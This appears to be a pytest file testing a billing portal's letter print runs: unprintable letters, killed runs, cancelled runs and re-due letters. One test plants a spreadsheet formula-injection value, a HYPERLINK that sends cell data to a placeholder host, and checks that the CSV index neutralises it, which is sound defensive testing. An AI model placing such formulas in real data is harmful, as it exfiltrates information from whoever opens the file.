"""A run never stays half printed: one letter stops no other, and a manager may give it up."""

import csv
import shutil
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from portal.connectors import pdf_press
from portal.connectors.pdf import Paper, PaperTooLongError, print_paper
from portal.db import Database
from portal.domain.print_run import LetterState, NotPrinted, RunState, UnknownMoveError
from portal.practice.models import Task
from portal.statements.print_runs import service
from portal.statements.print_runs.files import run_folder, unfinished_folder
from portal.statements.print_runs.printing import print_letters
from tests.statements.builders import MadeClaim, hold_account
from tests.statements.conftest import NOW, TODAY, Bill, Issue, PayIn
from tests.statements.print_runs.conftest import Town, index_of


@contextmanager
def quick_press(_count: int, **_how: object) -> Iterator[pdf_press.Press]:
    """One file for every letter: the same paper, printed once. "Too long" cannot be printed."""
    made: list[bytes] = []

    def press(papers: Sequence[Paper], *, made_at: datetime) -> Iterator[bytes]:
        for paper in papers:
            if paper.mailing and "Too Long" in paper.mailing.recipient[0]:
                raise PaperTooLongError(2_000)
            made[:] = made or [print_paper(paper, made_at=made_at)]
            yield made[0]

    yield press


def quick(town: Town) -> Town:
    return replace(town, press_for=quick_press)


def test_a_letter_that_cannot_be_printed_stops_no_other_and_becomes_a_task(
    town: Town, database: Database
) -> None:
    town = quick(town)
    run_id = town.run()
    town.change(1, first_name="Too", last_name="Long")
    town.change(3, city=None)  # an import, after the run began
    folder = town.print(run_id)
    page = town.state(run_id)
    assert page.run.state is RunState.READY
    assert page.run.letters == {LetterState.PRINTED: 5, LetterState.NOT_PRINTED: 2}
    assert [(one.sequence, one.detail) for one in page.look_at] == [
        (2, NotPrinted.NO_PAPER),
        (4, NotPrinted.NO_ADDRESS),
    ]
    assert len(index_of(folder)) == 5
    assert {one.account_number for one in town.letters().due} == {"A-30001", "A-30003"}
    with database.transaction(town.act.principal) as session:
        tasks = session.scalars(select(Task).where(Task.kind == "letters_not_printed"))
        assert [task.subject_id for task in tasks] == [run_id]


def test_a_run_killed_while_half_packed_files_are_thrown_away_goes_on(town: Town) -> None:
    town = quick(town)
    run_id = town.run()
    with pytest.MonkeyPatch.context() as killed:
        killed.setattr(shutil, "rmtree", _killed)
        with pytest.raises(KeyboardInterrupt):
            print_letters(town.shop, run_id, now=NOW)
    assert town.state(run_id).run.state is RunState.PRINTING
    folder = town.print(run_id)
    assert town.state(run_id).run.state is RunState.READY
    assert {file.name for file in folder.iterdir()} == {
        "batch-0001.pdf",
        "index.csv",
        "manifest.json",
    }


def _killed(_path: Path, **_how: object) -> None:
    """The process is gone."""
    raise KeyboardInterrupt


def test_a_manager_gives_a_run_up_and_its_letters_are_due_again(town: Town) -> None:
    town = quick(town)
    run_id = town.run()
    folder = town.print(run_id)
    service.end_run(town.database, town.act, run_id, home=town.home)
    assert town.state(run_id).run.state is RunState.ENDED
    assert not folder.exists()
    assert len(town.letters().due) == 7
    again = town.run()
    (town.home / "letters").mkdir(exist_ok=True)
    service.end_run(town.database, town.act, again, home=town.home)  # before it was printed
    print_letters(town.shop, again, now=NOW)  # the job comes too late
    number = town.state(again).run.number
    for of in (run_folder, unfinished_folder):
        assert not of(town.home, town.practice_id, number).exists()
    handed_over = town.run()
    town.print(handed_over)
    service.hand_over(town.database, town.act, handed_over, home=town.home)
    with pytest.raises(UnknownMoveError):
        service.end_run(town.database, town.act, handed_over, home=town.home)


def test_what_was_left_out_is_a_letter_once_it_asks_again(
    house: Town, bill: Bill, issue: Issue, pay_in: PayIn
) -> None:
    """The debit came back, a dispute was closed: paper is all that these people get."""
    house, made = quick(house), _billed(bill, issue)
    run_id = house.run()
    pay_in(puts=[(made.target(), 4_000)], on=TODAY + timedelta(days=1), at=NOW)
    house.print(run_id)
    assert house.state(run_id).run.letters == {LetterState.LEFT_OUT: 1}
    assert house.letters().due == ()  # nothing to ask for: no run is to see it again
    pay_in(puts=[(made.target(), -4_000)], on=TODAY + timedelta(days=2), at=NOW)
    (due,) = house.letters().due
    assert due.guarantor_id == house.guarantor_ids[0]
    hold_account(house.database, house.practice_id, guarantor_id=house.guarantor_ids[0])
    assert house.letters().due == ()


def _billed(bill: Bill, issue: Issue) -> MadeClaim:
    made = bill()
    issue()
    return made


def test_nothing_in_the_index_runs_when_it_is_opened(house: Town, bill: Bill, issue: Issue) -> None:
    house = quick(house)
    house.change(0, first_name='=HYPERLINK("http://x?"&A2,"..")', last_name="", city="@SUM(A1)")
    _billed(bill, issue)
    with (house.print(house.run()) / "index.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'@SUM(A1), OR 97399" in cells
